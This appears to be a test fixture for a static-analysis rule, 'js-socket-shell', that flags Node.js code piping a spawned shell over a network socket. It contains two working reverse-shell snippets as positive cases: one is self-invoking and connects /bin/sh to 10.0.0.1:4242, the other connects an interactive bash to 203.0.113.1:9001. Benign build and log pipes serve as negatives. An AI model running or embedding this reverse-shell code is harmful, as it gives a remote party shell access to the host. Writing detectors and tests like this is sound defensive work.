const net = require("net");
const cp = require("child_process");

(function () {
  const sh = cp.spawn("/bin/sh", []);
  const client = new net.Socket();
  client.connect(4242, "10.0.0.1", function () {
    // ruleid: js-socket-shell
    client.pipe(sh.stdin);
    // ruleid: js-socket-shell
    sh.stdout.pipe(client);
  });
})();

function build() {
  const child = cp.spawn("npm", ["run", "build"]);
  // ok: js-socket-shell
  child.stdout.pipe(process.stdout);
}

function logs(socket) {
  const tail = cp.spawn("tail", ["-f", "app.log"]);
  // ok: js-socket-shell
  tail.stdout.pipe(socket);
}

function destructured() {
  const { spawn } = require("child_process");
  const proc = spawn("bash", ["-i"]);
  const c = net.connect(9001, "203.0.113.1", () => {
    // ruleid: js-socket-shell
    proc.stdout.pipe(c);
  });
}

function destructuredBuild(socket) {
  const { spawn } = require("child_process");
  const proc = spawn("make", ["all"]);
  // ok: js-socket-shell
  proc.stdout.pipe(socket);
}
